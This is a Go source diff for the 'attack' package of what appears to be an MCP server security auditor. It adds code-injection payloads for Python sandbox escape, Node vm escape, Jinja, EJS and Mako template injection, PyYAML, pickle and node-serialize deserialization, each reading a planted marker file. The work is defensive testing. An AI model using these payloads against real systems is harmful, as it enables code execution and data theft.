@@ -1,6 +1,9 @@
 package attack
 
 import (
+	"encoding/base64"
+	"regexp"
+	"slices"
 	"strings"
 
 	"github.com/mcpaudit/mcpaudit/runner/inputs"
@@ -9,8 +12,11 @@ import (
 // Expressions that open a planted file when they are evaluated, and are an odd text to all
 // else. That of Python needs no builtins, for who takes those away thinks that eval is safe.
 const (
-	python     = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="_wrap_close"][0].__init__.__globals__["open"]("!",0)`
-	javaScript = `import("fs").then(f=>f.readFileSync("!"))`
+	python     = `[c for c in ().__class__.__base__.__subclasses__() if c.__name__=="_wrap_close"][0].__init__.__globals__["open"]("@",0)`
+	javaScript = `import("fs").then(f=>f.readFileSync("@"))`
+	// machine is for those who take a context of its own for a wall: what is handed into it
+	// leads out.
+	machine = `(p=>p.getBuiltinModule?p.getBuiltinModule("fs"):p.mainModule.require("fs"))(this.constructor.constructor("return process")()).readFileSync("@")`
 )
 
 // codeForms are the ways to write an expression into a value.
@@ -22,21 +28,35 @@ var codeForms = []form{
 	evaluated("behind a single quote, as an expression of Python", "'+str("+python+")+'"),
 	evaluated("behind a double quote, as an expression of Python", `"+str(`+strings.ReplaceAll(python, `"`, "'")+`)+"`),
 	evaluated("in a template of JavaScript", "${"+javaScript+"}"),
-	evaluated("in a template of Jinja", `{{ cycler.__init__.__globals__.os.open("!",0) }}`),
+	evaluated("in a template of Jinja", `{{ cycler.__init__.__globals__.os.open("@",0) }}`),
+	evaluated("as a call of open", `open("@")`),
+	evaluated("as an expression of JavaScript for a context of its own", machine),
+	evaluated("as YAML of Python", `!!python/object/apply:builtins.open ["@"]`),
+	evaluated("in a template of EJS", `<%= process.getBuiltinModule("fs").readFileSync("@") %>`),
+	evaluated("in a string of Python that is formatted", `{open("@")}`),
+	evaluated("in a template of Mako", `${open("@")}`),
+	pickled("as a pickle of Python, in Base64"),
+	evaluated("as a function of node-serialize", `{"x":"_$$ND_FUNC$$_function(){`+machine+`}()"}`),
 }
 
 // maxCode is how many attempts of family Code there are against one target, maxCodeFields
 // at how many places.
 const (
-	maxCode       = 16
+	maxCode       = 32
 	maxCodeFields = 2
 )
 
-// codeSteps are the attempts of family Code.
+// forCode are names of what may be evaluated.
+var forCode = regexp.MustCompile(`(?i)expr|formula|filter|template|condition|predicate|equation|query|transform|rule|spec|script|code|math|calc|yaml|data|config|state|object`)
+
+// codeSteps are the attempts of family Code: first at the places that are called like something
+// to be evaluated.
 func codeSteps(fields []field) (all []step) {
+	fields = slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return !f.text })
+	slices.SortStableFunc(fields, func(a, b field) int { return rankCode(a) - rankCode(b) })
 	for _, form := range codeForms {
 		for i, field := range fields {
-			if i < maxCodeFields && field.text && len(all) < maxCode {
+			if i < maxCodeFields && len(all) < maxCode {
 				all = append(all, step{family: Code, form: form, field: field})
 			}
 		}
@@ -44,9 +64,26 @@ func codeSteps(fields []field) (all []step) {
 	return all
 }
 
-// evaluated is a form by its expression: "!" stands for the file.
+// evaluated is a form by its expression: "@" stands for the file.
 func evaluated(name, expression string) form {
 	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
-		return f.before + strings.ReplaceAll(expression, "!", inputs.OutsideFile(number, ".txt")) + f.behind
+		return f.before + strings.ReplaceAll(expression, "@", file(number)) + f.behind
 	}}
+}
+
+// file is the one that an expression opens.
+func file(number int) string { return inputs.OutsideFile(number, ".txt") }
+
+// pickled is a form that opens the file when it is unpickled: protocol 0, which is text.
+func pickled(name string) form {
+	return form{name: name, write: func(f field, _ inputs.Mark, number int) string {
+		return f.before + base64.StdEncoding.EncodeToString([]byte("cbuiltins\nopen\n(V"+file(number)+"\ntR.")) + f.behind
+	}}
+}
+
+func rankCode(f field) int {
+	if forCode.MatchString(f.name) {
+		return 0
+	}
+	return 1
 }
